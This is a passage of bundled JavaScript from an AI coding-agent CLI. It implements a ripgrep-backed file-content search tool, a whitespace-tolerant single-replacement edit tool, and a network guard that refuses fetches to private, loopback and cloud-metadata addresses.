                if (error?.code === 'ERR_SCRIPT_EXECUTION_TIMEOUT') {
                    throw new RegexTimeoutError(timeoutMs);
                }
                throw error;
            }
            finally {
                context.lines = [];
            }
            const hits = context.hits;
            return Array.isArray(hits)
                ? hits.filter((hit) => typeof hit === 'number')
                : [];
        },
    };
}

;// CONCATENATED MODULE: ./src/tools/search/ripgrep.ts
/**
 * The ripgrep strategy: `rg --json` from PATH, handing lines on in path order so the search can
 * stop early.
 *
 * ripgrep first runs on all cores in no particular order, and its lines are sorted here. That is
 * the whole search unless it finds more than a thousand lines: then the answer will be cut
 * anyway, and a second, sorted run (`--sort path`, one core) that stops at the first lines needed
 * costs less than reading every line. Either way the lines come out in the same order.
 *
 * ripgrep decides little on its own here. It reads the `.gitignore` files inside the search
 * directory (not global or parent ones, not `.ignore`), searches binary-looking files as text
 * (the collector applies the one binary rule), never follows symlinks, and matches the pattern
 * case-insensitively with its default engine, or PCRE2 when the pattern needs look-around or
 * backreferences. Patterns ripgrep cannot compile leave the search to the next strategy.
 */




/**
 * The unordered run gives way to a sorted one once it has found more lines than this, or more
 * text: past that, the result is cut and the sorted run can stop early.
 */
const UNORDERED_MAX_LINES = 1000;
const UNORDERED_MAX_BYTES = 4 * 1024 * 1024;
function createRipgrepStrategy(options = {}) {
    return {
        name: 'ripgrep',
        ordered: true,
        async search(request) {
            const rg = await findExecutable('rg', {
                pathVariable: options.pathVariable ?? process.env.PATH,
                untrustedDirectories: request.untrustedDirectories,
            });
            if (rg === null)
                return { kind: 'unavailable', reason: 'rg is not on PATH' };
            const problem = portabilityProblem(request.pattern);
            if (problem !== null)
                return { kind: 'unavailable', reason: problem };
            return runRipgrep(rg, request);
        },
    };
}
/**
 * The arguments for one search; exported for tests that check what is (not) passed. `sorted`
 * asks ripgrep for path order, which makes it use one thread.
 */
function ripgrepArguments(request, options = { sorted: true }) {
    const args = [
        '--json',
        '--no-config',
        '--hidden',
        '--text',
        '--ignore-case',
        '--crlf',
        '--engine',
        'auto',
        ...(options.sorted ? ['--sort', 'path'] : []),
        '--max-filesize',
        String(request.maxFileBytes),
        '--no-ignore-parent',
        '--no-ignore-global',
        '--no-ignore-dot',
        '--no-require-git',
    ];
    if (!request.respectGitIgnore)
        args.push('--no-ignore-vcs', '--no-ignore-exclude');
    for (const dir of file_walk/* DEFAULT_EXCLUDED_DIRECTORIES */.Rc)
        args.push('--glob', `!${dir}`);
    // Known binary formats are never searched; leaving them out here saves reading them. One glob
    // with alternatives: ripgrep checks every path against every glob given separately.
    const extensions = BINARY_EXTENSIONS_FOR_SEARCH.map((extension) => extension.slice(1));
    args.push('--iglob', `!*.{${extensions.join(',')}}`);
    if (request.include !== undefined)
        args.push('--glob', request.include);
    args.push('--regexp', toRipgrepPattern(request.pattern), '--', request.targetFile ?? '.');
    return args;
}
async function runRipgrep(rg, request) {
    const found = [];
    let bytes = 0;
    const unordered = await runPass(rg, request, {
        sorted: false,
        onMatch: (match) => {
            found.push(match);
            bytes += match.line.length + match.filePath.length;
            return found.length > UNORDERED_MAX_LINES || bytes > UNORDERED_MAX_BYTES ? 'stop' : 'more';
        },
    });
    if (unordered.kind === 'unavailable')
        return unordered;
    if (!unordered.stopped) {
        found.sort((a, b) => (0,file_walk/* comparePaths */.cD)(relativeOf(a.filePath), relativeOf(b.filePath)) || a.lineNumber - b.lineNumber);
        for (const match of found) {
            if ((await request.collect(match)) === 'enough')
                break;
        }
        return { kind: 'searched' };
    }
    const ordered = await runPass(rg, request, {
        sorted: true,
        onMatch: async (match) => ((await request.collect(match)) === 'enough' ? 'stop' : 'more'),
    });
    return ordered.kind === 'unavailable' ? ordered : { kind: 'searched' };
}
/** ripgrep names files below `.` as `./path`. */
function relativeOf(filePath) {
    return filePath.startsWith('./') ? filePath.slice(2) : filePath;
}
/** One ripgrep run, each match handed to `onMatch` as it arrives. */
async function runPass(rg, request, options) {
    const seen = { summary: false };
    const result = await runLines({
        command: rg,
        args: ripgrepArguments(request, { sorted: options.sorted }),
        cwd: request.searchDir,
        signal: request.signal,
        onLine: (raw) => {
            let event;
            try {
                event = JSON.parse(raw.toString('utf8'));
            }
            catch {
                return 'more';
            }
            if (event.type === 'summary')
                seen.summary = true;
            if (event.type !== 'match')
                return 'more';
            const filePath = textOf(event.data?.path);
            const line = textOf(event.data?.lines);
            const lineNumber = event.data?.line_number;
            if (filePath === null || line === null || typeof lineNumber !== 'number')
                return 'more';
            return options.onMatch({ filePath, lineNumber, line: line.replace(/\r?\n$/u, '') });
        },
    });
    if (result.stopped)
        return { kind: 'searched', stopped: true };
    // Exit code 2 with a summary means some files could not be read; the rest was searched.
    if (result.exitCode === 0 || result.exitCode === 1 || (result.exitCode === 2 && seen.summary)) {
        return { kind: 'searched', stopped: false };
    }
    return {
        kind: 'unavailable',
        reason: `rg exited with ${String(result.exitCode)}: ${firstLines(result.stderr)}`,
    };
}
/** ripgrep sends text that is not valid UTF-8 as base64 `bytes`; decoded like the file scan. */
function textOf(value) {
    if (typeof value?.text === 'string')
        return value.text;
    if (typeof value?.bytes === 'string')
        return Buffer.from(value.bytes, 'base64').toString('utf8');
    return null;
}
function firstLines(text) {
    return text.split('\n').slice(0, 3).join(' ').slice(0, 300);
}

;// CONCATENATED MODULE: ./src/tools/search-file-content.ts














const SEARCH_FILE_CONTENT_TOOL_NAME = 'search_file_content';
/** The name the current Gemini CLI uses; registered as an alias. */
const GREP_SEARCH_ALIAS = 'grep_search';
const DEFAULT_MAX_MATCHES = 100;
const DEFAULT_SEARCH_TIMEOUT_MS = 30_000;
/** Strategies that report out of path order are read to the end, up to this many matches. */
const MAX_COLLECTED_MATCHES = 20_000;
/** Larger files are not searched (the limit `read_file` has too). */
const MAX_SEARCHED_FILE_BYTES = read_file/* MAX_FILE_SIZE_MB */.sO * 1024 * 1024;
const search_file_content_parameters = schemas/* object */.Ikc({
    pattern: schemas/* string */.YjP()
        .describe("The regular expression (JavaScript syntax) to search for in file contents, matched case-insensitively (e.g., 'function\\s+myFunction', 'import\\s+\\{.*\\}\\s+from\\s+.*')."),
    path: schemas/* string */.YjP()
        .describe('Optional: the directory (or single file) to search, absolute or relative to the workspace root. Defaults to the workspace root.')
        .optional(),
    include: schemas/* string */.YjP()
        .describe("Optional: a glob that selects the files to search (e.g., '*.js', '*.{ts,tsx}', 'src/**'). Without a '/', it matches file names at any depth. If omitted, searches all files that are not ignored.")
        .optional(),
});
/** ripgrep, then git grep, then the JavaScript scan. */
function defaultSearchStrategies() {
    return [createRipgrepStrategy(), createGitGrepStrategy(), createJsScanStrategy()];
}
function createSearchFileContentTool(options) {
    const { workspace } = options;
    const strategies = options.strategies ?? defaultSearchStrategies();
    return (0,define_tool/* defineTool */.u)({
        name: SEARCH_FILE_CONTENT_TOOL_NAME,
        displayName: 'SearchText',
        description: 'Searches for a regular expression pattern within the content of files in a specified directory (or the workspace root). Can filter files by a glob pattern. Returns the lines containing matches, along with their file paths and line numbers.',
        kind: 'search',
        parameters: search_file_content_parameters,
        parameterAliases: parameter_aliases/* PARAMETER_ALIASES */.j.search_file_content,
        validate(params) {
            const problem = regexProblem(params.pattern);
            if (problem !== null)
                return { message: problem, type: 'invalid_tool_params' };
            if (params.path === undefined)
                return null;
            const resolved = workspace.resolve(params.path, { purpose: 'read' });
            return resolved.ok ? null : resolved.error;
        },
        invocation(params) {
            const resolved = workspace.resolve(params.path ?? '.', { purpose: 'read' });
            const shown = resolved.ok ? workspace.displayPath(resolved.absolutePath) : params.path;
            const within = shown === '.' ? './' : (shown ?? './');
            const filter = params.include === undefined ? '' : ` in ${params.include}`;
            const description = `Search for '${params.pattern}'${filter} within ${within}`;
            return {
                describe: () => description,
                locations: () => [resolved.ok ? resolved.relativePath : (params.path ?? '')],
                confirmationDetails: () => Promise.resolve({ type: 'info', title: 'Confirm Search', prompt: description }),
                execute: (signal) => searchForModel(params, { ...options, strategies, signal }),
            };
        },
    });
}
function regexProblem(pattern) {
    try {
        new RegExp(pattern, 'i');
        return null;
    }
    catch (error) {
        return `Invalid regular expression pattern provided: ${pattern}. Error: ${(0,errors/* errorMessage */.gJ)(error)}`;
    }
}
function search_file_content_failure(message, display, type) {
    return { llmContent: message, returnDisplay: `Error: ${display}`, error: { message, type } };
}
async function scopeOf(workspace, requested) {
    // Checked again: the file system may have changed since the call was validated.
    const resolved = workspace.resolve(requested, { purpose: 'read' });
    if (!resolved.ok) {
        return search_file_content_failure(resolved.error.message, 'Path not in workspace.', 'path_not_in_workspace');
    }
    const target = resolved.absolutePath;
    let stats;
    try {
        stats = await (0,promises_.stat)(target);
    }
    catch {
        return search_file_content_failure(`Path does not exist: ${target}`, 'Path does not exist.', 'file_not_found');
    }
    if (stats.isDirectory())
        return { searchDir: target, targetFile: null };
    if (stats.isFile())
        return { searchDir: external_node_path_default().dirname(target), targetFile: external_node_path_default().basename(target) };
    return search_file_content_failure(`Path is not a valid directory or file: ${target}`, 'Path is not a valid directory or file.', 'path_is_not_a_directory');
}
async function searchForModel(params, context) {
    const { workspace, signal } = context;
    const logger = context.logger ?? platform_logger/* silentLogger */.qq;
    const scope = await scopeOf(workspace, params.path ?? '.');
    if ('llmContent' in scope)
        return scope;
    const maxMatches = context.maxMatches ?? DEFAULT_MAX_MATCHES;
    const timeoutMs = context.timeoutMs ?? DEFAULT_SEARCH_TIMEOUT_MS;
    const timeout = AbortSignal.timeout(timeoutMs);
    const searchSignal = AbortSignal.any([signal, timeout]);
    const include = normalizeInclude(params.include);
    const lineMatcher = createLineMatcher(new RegExp(params.pattern, 'i'), {
        timeoutMs: context.regexTimeoutMs,
    });
    const filter = workspace.fileFilter(context.fileFiltering ?? { respectGitIgnore: true, respectGeminiIgnore: true });
    const skipped = [];
    for (const strategy of context.strategies) {
        const limit = strategy.ordered ? maxMatches + 1 : MAX_COLLECTED_MATCHES;
        const collector = new MatchCollector({
            workspace,
            filter,
            searchDir: scope.searchDir,
            include,
            maxFileBytes: MAX_SEARCHED_FILE_BYTES,
            lineMatcher,
            limit,
        });
        const request = {
            pattern: params.pattern,
            matchLines: (lines) => lineMatcher.matching(lines),
            searchDir: scope.searchDir,
            targetFile: scope.targetFile,
            include,
            respectGitIgnore: context.fileFiltering?.respectGitIgnore ?? true,
            maxFileBytes: MAX_SEARCHED_FILE_BYTES,
            prunesDirectory: (relativePath) => collector.prunesDirectory(relativePath),
            selectsFile: (relativePath) => collector.selectsFile(relativePath),
            readFile: (relativePath) => collector.readFile(relativePath),
            collect: (match) => collector.collect(match),
            signal: searchSignal,
            untrustedDirectories: workspace.roots,
        };
        try {
            const outcome = await strategy.search(request);
            if (outcome.kind === 'unavailable') {
                logger.debug(`search_file_content: ${strategy.name} not used: ${outcome.reason}`);
                skipped.push(`${strategy.name}: ${outcome.reason}`);
                continue;
            }
            const matches = collector.finish();
            logger.debug(`search_file_content: searched with ${strategy.name}`);
            return formatSearchResults(matches, {
                pattern: params.pattern,
                location: `in path "${params.path ?? '.'}"`,
                include: params.include,
                maxMatches,
                moreExist: !strategy.ordered && matches.length >= MAX_COLLECTED_MATCHES,
            });
        }
        catch (error) {
            if (signal.aborted)
                throw error;
            if (timeout.aborted) {
                const limit = timeoutMs >= 1000 ? `${Math.round(timeoutMs / 1000)} seconds` : `${timeoutMs} ms`;
                return searchError(`The search did not finish within ${limit} and was stopped.`);
            }
            if (error instanceof RegexTimeoutError)
                return searchError(error.message);
            logger.debug(`search_file_content: ${strategy.name} failed: ${(0,errors/* errorMessage */.gJ)(error)}`);
            skipped.push(`${strategy.name}: ${(0,errors/* errorMessage */.gJ)(error)}`);
        }
    }
    return searchError(`No search strategy could run (${skipped.join('; ') || 'none configured'}).`);
}
function searchError(detail) {
    const message = `Error during grep search operation: ${detail}`;
    return {
        llmContent: message,
        returnDisplay: `Error: ${detail}`,
        error: { message, type: 'grep_execution_error' },
    };
}

;// CONCATENATED MODULE: ./src/tools/edit-matching.ts
/**
 * Finding the text a model meant to replace when it did not copy the file's whitespace exactly.
 *
 * Three strategies, tried in order, each on LF text; the first that finds anything decides:
 * 1. exact: `old_string` occurs verbatim;
 * 2. line: whole lines equal once leading and trailing whitespace is ignored; `new_string` is
 *    re-indented to the indentation found in the file;
 * 3. token: the same tokens with any whitespace between them (none needed next to punctuation),
 *    anywhere in a line; later lines of `new_string` are re-indented like the first.
 * A strategy that finds more than one place is ambiguous: nothing is replaced, and the count says
 * so. The file's trailing newline (or its absence) is kept.
 */
/**
 * Replaces the single place in `content` (LF line breaks) that `oldString` designates.
 * `oldString` and `newString` may use CRLF; they are compared and inserted with LF.
 */
function findTolerantEdit(content, oldString, newString) {
    const search = oldString.replace(/\r\n/g, '\n');
    const replacement = newString.replace(/\r\n/g, '\n');
    const none = { strategy: null, occurrences: 0, newContent: content };
    if (search === '')
        return none;
    for (const [strategy, attempt] of STRATEGIES) {
        const found = attempt(content, search, replacement);
        if (found.count === 0)
            continue;
        if (found.count > 1)
            return { strategy, occurrences: found.count, newContent: content };
        return {
            strategy,
            occurrences: 1,
            newContent: keepTrailingNewline(content, found.apply()),
        };
    }
    return none;
}
const STRATEGIES = [
    ['exact', exactMatch],
    ['line', lineMatch],
    ['token', tokenMatch],
];
function exactMatch(content, search, replacement) {
    const first = content.indexOf(search);
    let count = 0;
    for (let at = first; at !== -1; at = content.indexOf(search, at + search.length))
        count += 1;
    return {
        count,
        apply: () => content.slice(0, first) + replacement + content.slice(first + search.length),
    };
}
function lineMatch(content, search, replacement) {
    const endsWithBreak = content.endsWith('\n');
    const fileLines = (endsWithBreak ? content.slice(0, -1) : content).split('\n');
    const searchLines = withoutFinalBreak(search).split('\n');
    if (searchLines.every((line) => line.trim() === ''))
        return { count: 0, apply: () => content };
    const wanted = searchLines.map((line) => line.trim());
    const trimmed = fileLines.map((line) => line.trim());
    const starts = [];
    for (let i = 0; i + wanted.length <= trimmed.length;) {
        if (wanted.every((line, k) => trimmed[i + k] === line)) {
            starts.push(i);
            i += wanted.length;
        }
        else {
            i += 1;
        }
    }
    const [start = 0] = starts;
    return {
        count: starts.length,
        apply: () => {
            const window = fileLines.slice(start, start + wanted.length);
            const indents = indentationMap(searchLines, window);
            const inserted = replacement === '' ? [] : withoutFinalBreak(replacement).split('\n');
            const lines = [
                ...fileLines.slice(0, start),
                ...reindent(inserted, indents, firstIndent(searchLines)),
                ...fileLines.slice(start + wanted.length),
            ];
            return lines.join('\n') + (endsWithBreak ? '\n' : '');
        },
    };
}
const DELIMITERS = new Set(['(', ')', '[', ']', '{', '}', '<', '>', ':', ';', ',', '=']);
function tokenMatch(content, search, replacement) {
    const tokens = edit_matching_tokenize(search);
    if (tokens.length === 0)
        return { count: 0, apply: () => content };
    // Two word tokens were separated by whitespace, so some whitespace must separate them in the
    // file too ("int x" must not match "intx"); next to punctuation, whitespace is optional.
    const pattern = tokens
        .map((token, index) => {
        const previous = tokens[index - 1];
        const escaped = escapeRegExp(token);
        if (previous === undefined)
            return escaped;
        return isWord(previous) && isWord(token) ? `\\s+${escaped}` : `\\s*${escaped}`;
    })
        .join('');
    const matches = Array.from(content.matchAll(new RegExp(pattern, 'g')));
    const [first] = matches;
    return {
        count: matches.length,
        apply: () => {
            if (!first)
                return content;
            const start = first.index;
            const end = start + first[0].length;
            const lineStart = content.lastIndexOf('\n', start - 1) + 1;
            const fileIndent = leadingWhitespace(content.slice(lineStart, start + 1));
            const baseIndent = firstIndent(search.split('\n'));
            const inserted = withoutFinalBreak(replacement).split('\n');
            const lines = reindent(inserted, new Map([[baseIndent, fileIndent]]), baseIndent);
            // The match starts at its first token, after whatever indentation the line already has.
            const text = lines.join('\n').replace(/^[ \t]*/, '');
            return content.slice(0, start) + text + content.slice(end);
        },
    };
}
function edit_matching_tokenize(text) {
    const tokens = [];
    let word = '';
    const flush = () => {
        if (word !== '')
            tokens.push(word);
        word = '';
    };
    for (const char of text) {
        if (/\s/.test(char)) {
            flush();
        }
        else if (DELIMITERS.has(char)) {
            flush();
            tokens.push(char);
        }
        else {
            word += char;
        }
    }
    flush();
    return tokens;
}
function isWord(token) {
    return !DELIMITERS.has(token);
}
function escapeRegExp(text) {
    return text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
}
/**
 * For each indentation used in `searchLines`, the indentation the matching file line has: this
 * carries a different indentation unit (2 vs 4 spaces, tabs) over to the replacement.
 */
function indentationMap(searchLines, fileLines) {
    const map = new Map();
    searchLines.forEach((line, index) => {
        const fileLine = fileLines[index];
        if (line.trim() === '' || fileLine === undefined)
            return;
        const indent = leadingWhitespace(line);
        if (!map.has(indent))
            map.set(indent, leadingWhitespace(fileLine));
    });
    return map;
}
/**
 * Re-indents replacement lines: an indentation the search text used becomes the file's
 * indentation for it; deeper lines keep their extra indentation on top of the base; shallower
 * lines keep their distance below it. Blank lines stay empty.
 */
function reindent(lines, indents, baseIndent) {
    const fileBase = indents.get(baseIndent) ?? baseIndent;
    return lines.map((line) => {
        if (line.trim() === '')
            return '';
        const indent = leadingWhitespace(line);
        const rest = line.slice(indent.length);
        const mapped = indents.get(indent);
        if (mapped !== undefined)
            return mapped + rest;
        if (indent.startsWith(baseIndent))
            return fileBase + indent.slice(baseIndent.length) + rest;
        const shallower = Math.max(0, baseIndent.length - indent.length);
        return fileBase.slice(0, Math.max(0, fileBase.length - shallower)) + rest;
    });
}
function firstIndent(lines) {
    const line = lines.find((candidate) => candidate.trim() !== '');
    return line === undefined ? '' : leadingWhitespace(line);
}
function leadingWhitespace(line) {
    return /^[ \t]*/.exec(line)?.[0] ?? '';
}
/** One final line break is not a line of its own when matching or inserting whole lines. */
function withoutFinalBreak(text) {
    return text.endsWith('\n') ? text.slice(0, -1) : text;
}
function keepTrailingNewline(original, updated) {
    const had = original.endsWith('\n');
    if (had && !updated.endsWith('\n'))
        return `${updated}\n`;
    if (!had && updated.endsWith('\n'))
        return updated.slice(0, -1);
    return updated;
}

;// CONCATENATED MODULE: ./src/tools/smart-edit.ts
/**
 * `smart_edit`: one replacement in one file, tolerant of whitespace and indentation differences
 * between `old_string` and the file (see `edit-matching.ts`). The result strings are `replace`'s.
 * There is no second model call to repair a failed match: the model reads why and retries.
 */




const SMART_EDIT_TOOL_NAME = 'smart_edit';
const smart_edit_parameters = schemas/* object */.Ikc({
    file_path: schemas/* string */.YjP()
        .describe('The path of the file to modify: absolute, or relative to the workspace root.'),
    instruction: schemas/* string */.YjP()
        .describe(`A clear, semantic instruction for the code change: why it is needed, where it happens, what changes and what the outcome should be. Example: "In the 'calculateTotal' function, correct the sales tax calculation by updating the 'taxRate' constant from 0.05 to 0.075 to reflect the new regional tax laws."`),
    old_string: schemas/* string */.YjP()
        .describe('The text to replace, unescaped, copied from the file. Include at least 3 lines of context BEFORE and AFTER the target text so that it matches exactly one place. Indentation and other whitespace may differ from the file; everything else must match. An empty old_string creates a new file whose content is new_string.'),
    new_string: schemas/* string */.YjP()
        .describe('The text to replace `old_string` with, unescaped. It is re-indented to the indentation found in the file. Ensure the resulting code is correct and idiomatic.'),
});
function createSmartEditTool(options) {
    const { workspace } = options;
    return (0,define_tool/* defineTool */.u)({
        name: SMART_EDIT_TOOL_NAME,
        displayName: 'SmartEdit',
        description: `Replaces a single occurrence of text within a file. Always use the read_file tool to examine the file's current content before attempting a replacement.

Expectation for parameters:
1. \`file_path\` is the file to modify, absolute or relative to the workspace root.
2. \`old_string\` must match the file's text. Differences in indentation and other whitespace are tolerated (the match ignores them and \`new_string\` is re-indented to the file's indentation), but every other character must be as in the file.
3. \`new_string\` is the text to put in its place. Ensure the resulting code is correct and idiomatic, and that \`old_string\` and \`new_string\` differ.
4. \`instruction\` says what the change is for, specifically enough that a reviewer understands it.
5. NEVER escape \`old_string\` or \`new_string\`.
**Important:** \`old_string\` must identify a single place: include at least 3 lines of context BEFORE and AFTER the target text. If it matches several places, or none, the tool fails and nothing is changed; there is no automatic correction, so read the file again and retry with the exact text. Prefer several small edits to one large one.`,
        kind: 'edit',
        parameters: smart_edit_parameters,
        withModifiedContent: (params, change) => ({
            file_path: params.file_path,
            instruction: params.instruction,
            ...wholeFileReplacement(change),
        }),
        validate: (params) => validateEditPath(workspace, params.file_path),
        invocation: (params) => textEditInvocation({
            workspace,
            params,
            match: (content) => findTolerantEdit(content, params.old_string, params.new_string),
            expectedReplacements: 1,
            ...(options.writeFile ? { writeFile: options.writeFile } : {}),
        }),
    });
}

// EXTERNAL MODULE: ./node_modules/@google/genai/dist/node/index.mjs + 1 modules
var node = __webpack_require__(67964);
// EXTERNAL MODULE: ./node_modules/html-to-text/lib/html-to-text.mjs + 35 modules
var html_to_text = __webpack_require__(95557);
// EXTERNAL MODULE: external "node:dns/promises"
var external_node_dns_promises_ = __webpack_require__(71553);
// EXTERNAL MODULE: external "node:http"
var external_node_http_ = __webpack_require__(37067);
var external_node_http_default = /*#__PURE__*/__webpack_require__.n(external_node_http_);
// EXTERNAL MODULE: external "node:https"
var external_node_https_ = __webpack_require__(44708);
var external_node_https_default = /*#__PURE__*/__webpack_require__.n(external_node_https_);
// EXTERNAL MODULE: ./node_modules/ipaddr.js/lib/ipaddr.js
var ipaddr = __webpack_require__(48280);
var ipaddr_default = /*#__PURE__*/__webpack_require__.n(ipaddr);
;// CONCATENATED MODULE: ./src/platform/network-guard.ts
/**
 * Outgoing HTTP(S) fetches that a hostile model cannot point at the runner's own network: the
 * cloud metadata service, services on loopback, the private network a self-hosted runner sits in.
 *
 * Every hop is checked before anything connects: the URL's host when it is an address, otherwise
 * every address DNS returns for it. The connection then goes to the address that was checked (the
 * transport never resolves the name again), so a DNS answer that changes between the check and
 * the connect cannot redirect it. Redirects are followed by hand and each target checked again.
 */





/** Human names for the ranges we refuse, as the error messages show them. */
const RANGE_NAMES = {
    unspecified: 'unspecified',
    broadcast: 'broadcast',
    multicast: 'multicast',
    linkLocal: 'link-local',
    loopback: 'loopback',
    carrierGradeNat: 'carrier-grade NAT (CGNAT)',
    private: 'private',
    uniqueLocal: 'unique-local',
    reserved: 'reserved',
};
/** IPv6 ranges whose last 32 bits are an IPv4 address a packet may end up at. */
const EMBEDS_IPV4 = new Set(['ipv4Mapped', 'rfc6145', 'rfc6052']);
/** Only public unicast addresses, plus the `allow` ranges. */
function createAddressPolicy(options = {}) {
    const allowed = (options.allow ?? []).map((cidr) => {
        try {
            return ipaddr_default().parseCIDR(cidr);
        }
        catch {
            throw new Error(`Invalid CIDR range in the address policy: "${cidr}"`);
        }
    });
    const isAllowed = (address) => allowed.some(([range, bits]) => address.kind() === range.kind() && address.match(range, bits));
    return {
        refusalReason(text) {
            if (!ipaddr_default().isValid(text))
                return 'not an IP address';
            const address = ipaddr_default().parse(text);
            if (isAllowed(address))
                return null;
            if (address instanceof (ipaddr_default()).IPv4)
                return ipv4Refusal(address);
            const range = address.range();
            if (range === 'loopback' || range === 'unspecified')
                return range;
            const embedded = embeddedIpv4(address);
            if (embedded) {
                if (isAllowed(embedded))
                    return null;
                const reason = ipv4Refusal(embedded);
                return reason === null ? null : `${reason} (IPv4 ${embedded.toString()} inside IPv6)`;
            }
            return range === 'unicast' ? null : (RANGE_NAMES[range] ?? `special-purpose (${range})`);
        },
    };
}
/** The policy used unless one is injected: public unicast addresses only. */
const PUBLIC_ADDRESSES_ONLY = createAddressPolicy();
function ipv4Refusal(address) {
    const range = address.range();
    return range === 'unicast' ? null : (RANGE_NAMES[range] ?? `special-purpose (${range})`);
}
/**
 * The IPv4 address an IPv6 address stands for: IPv4-mapped (`::ffff:a.b.c.d`), translated, NAT64
 * (`64:ff9b::/96`) and the deprecated IPv4-compatible form (`::a.b.c.d`).
 */
function embeddedIpv4(address) {
    const parts = address.parts;
    const leadingZeros = parts.slice(0, 6).every((part) => part === 0);
    if (!EMBEDS_IPV4.has(address.range()) && !leadingZeros)
        return null;
    const high = parts[6] ?? 0;
    const low = parts[7] ?? 0;
    return new (ipaddr_default()).IPv4([high >> 8, high & 0xff, low >> 8, low & 0xff]);
}
const systemLookup = async (hostname) => {
    const results = await (0,external_node_dns_promises_.lookup)(hostname, { all: true, order: 'verbatim' });
    return results.map((r) => ({ address: r.address, family: r.family === 6 ? 6 : 4 }));
};
/** A fetch refused by the address policy or the URL rules; nothing was sent. */
class NetworkAccessRefusedError extends Error {
    name = 'NetworkAccessRefusedError';
}
function withArticle(words) {
    // "an unspecified", but "a unique-local".
    return /^(?:[aeio]|un(?!i))/i.test(words) ? `an ${words}` : `a ${words}`;
}
/**
 * Checks that a URL may be fetched: http or https, and every address of its host allowed by the
 * policy. Throws `NetworkAccessRefusedError` when it may not; lookup failures are thrown as they are.
 */
async function vetUrl(input, options = {}) {
    const policy = options.policy ?? PUBLIC_ADDRESSES_ONLY;
    const url = new URL(input);
    if (url.protocol !== 'http:' && url.protocol !== 'https:') {
        throw new NetworkAccessRefusedError(`Only http and https URLs can be fetched, but ${url.href} uses ${url.protocol}`);
    }
    const host = url.hostname.replace(/^\[(.*)\]$/, '$1');
    const refused = (detail) => new NetworkAccessRefusedError(`Access to blocked or private host ${url.href} is not allowed: ${detail}.`);
    // The URL parser already turned decimal, hex and octal IPv4 forms into dotted quads.
    if (ipaddr_default().isValid(host)) {
        const reason = policy.refusalReason(host);
        if (reason !== null)
            throw refused(`${host} is ${withArticle(reason)} address`);
        return { url, address: host, family: ipaddr_default().parse(host).kind() === 'ipv6' ? 6 : 4 };
    }
    const resolved = await abortable((options.lookup ?? systemLookup)(host), options.signal);
    if (resolved.length === 0)
        throw new Error(`Could not resolve host ${host}`);
    // One refused answer refuses the host: which answer a client would use is not ours to choose.
    for (const { address } of resolved) {
        const reason = policy.refusalReason(address);
        if (reason !== null) {
            throw refused(`${host} resolves to ${address}, ${withArticle(reason)} address`);
        }
    }
    const [first] = resolved;
    return { url, address: first.address, family: first.family };
}
/** `node:http`/`node:https`, with name resolution pinned to the checked address. */
const nodeHttpTransport = (request) => new Promise((resolve, reject) => {
    const pinned = (_hostname, options, callback) => {
        const { address, family } = request;
        if (options.all)
            callback(null, [{ address, family }]);
        else
            callback(null, address, family);
    };
    const client = request.url.protocol === 'https:' ? (external_node_https_default()) : (external_node_http_default());
    const req = client.request(request.url, {
        method: 'GET',
        headers: request.headers,
        // A pooled socket would skip the pinned lookup; every hop gets its own connection.
        agent: false,
        lookup: pinned,
        family: request.family,
        signal: request.signal,
    }, (res) => {
        const declared = Number(res.headers['content-length']);
        if (Number.isFinite(declared) && declared > request.maxBytes) {
            req.destroy();
            reject(new Error(`Content exceeds size limit of ${request.maxBytes} bytes`));
            return;
        }
        const chunks = [];
        let total = 0;
        res.on('data', (piece) => {
            total += piece.length;
            if (total > request.maxBytes) {
                req.destroy();
                reject(new Error(`Content exceeds size limit of ${request.maxBytes} bytes`));
                return;
            }
            chunks.push(piece);
        });
        res.on('error', reject);
        res.on('end', () => {
            const headers = {};
            for (const [name, value] of Object.entries(res.headers)) {
                headers[name] = Array.isArray(value) ? value.join(', ') : value;
            }
            resolve({
                status: res.statusCode ?? 0,
                statusText: res.statusMessage ?? '',
                headers,
                body: Buffer.concat(chunks),
            });
        });
    });
    req.on('error', reject);
    req.end();
});
const DEFAULT_FETCH_TIMEOUT_MS = 10_000;
const DEFAULT_MAX_REDIRECTS = 5;
const DEFAULT_MAX_FETCH_BYTES = 10 * 1024 * 1024;
const REDIRECT_STATUSES = new Set([301, 302, 303, 307, 308]);
/**
 * GETs a URL under the address policy, following redirects by hand (each target checked before
 * it is contacted). Throws `NetworkAccessRefusedError` for a refused hop, and plain errors for
 * timeouts, too many redirects, oversized bodies and network failures.
 */
async function guardedFetch(input, options = {}) {
    const transport = options.transport ?? nodeHttpTransport;
    const timeoutMs = options.timeoutMs ?? DEFAULT_FETCH_TIMEOUT_MS;
    const maxRedirects = options.maxRedirects ?? DEFAULT_MAX_REDIRECTS;
    const maxBytes = options.maxBytes ?? DEFAULT_MAX_FETCH_BYTES;
    const controller = new AbortController();
    const timeout = new Error(`Request timed out after ${timeoutMs} ms`);
    const timer = setTimeout(() => {
        controller.abort(timeout);
    }, timeoutMs);
    const outer = options.signal;
    const forward = () => {
        controller.abort(outer?.reason);
    };
    if (outer?.aborted)
        forward();
    else
        outer?.addEventListener('abort', forward, { once: true });
    const signal = controller.signal;
    try {
        let current = new URL(input);
        for (let redirects = 0;; redirects += 1) {
            signal.throwIfAborted();
            const target = await vetUrl(current, { ...options, signal });
            signal.throwIfAborted();
            const response = await abortable(transport({ ...target, headers: options.headers ?? {}, signal, maxBytes }), signal);
            const location = response.headers['location'];
            if (REDIRECT_STATUSES.has(response.status) && location !== undefined) {
                if (redirects >= maxRedirects) {
                    throw new Error(`Too many redirects (more than ${maxRedirects}) fetching ${input}`);
                }
                current = new URL(location, current);
                continue;
            }
            return {
                url: current.href,
                status: response.status,
                statusText: response.statusText,
                contentType: response.headers['content-type'] ?? '',
                body: response.body,
            };
        }
    }
    catch (error) {
        if (signal.aborted && signal.reason === timeout)
            throw timeout;
        if (signal.aborted && !(error instanceof NetworkAccessRefusedError)) {
            throw new Error(`Request aborted: ${(0,errors/* errorMessage */.gJ)(signal.reason)}`, { cause: error });
        }
        throw error;
    }
    finally {
        clearTimeout(timer);
        outer?.removeEventListener('abort', forward);
    }
}
/** Settles with `promise`, or rejects as soon as `signal` aborts (DNS lookups cannot be aborted). */
function abortable(promise, signal) {
    if (!signal)
        return promise;
    return new Promise((resolve, reject) => {
        const onAbort = () => {
            reject(signal.reason instanceof Error ? signal.reason : new Error('Request aborted'));
        };
        if (signal.aborted) {
            onAbort();
            return;
        }
        signal.addEventListener('abort', onAbort, { once: true });
        promise.then((value) => {
            signal.removeEventListener('abort', onAbort);
            resolve(value);
        }, (error) => {
            signal.removeEventListener('abort', onAbort);
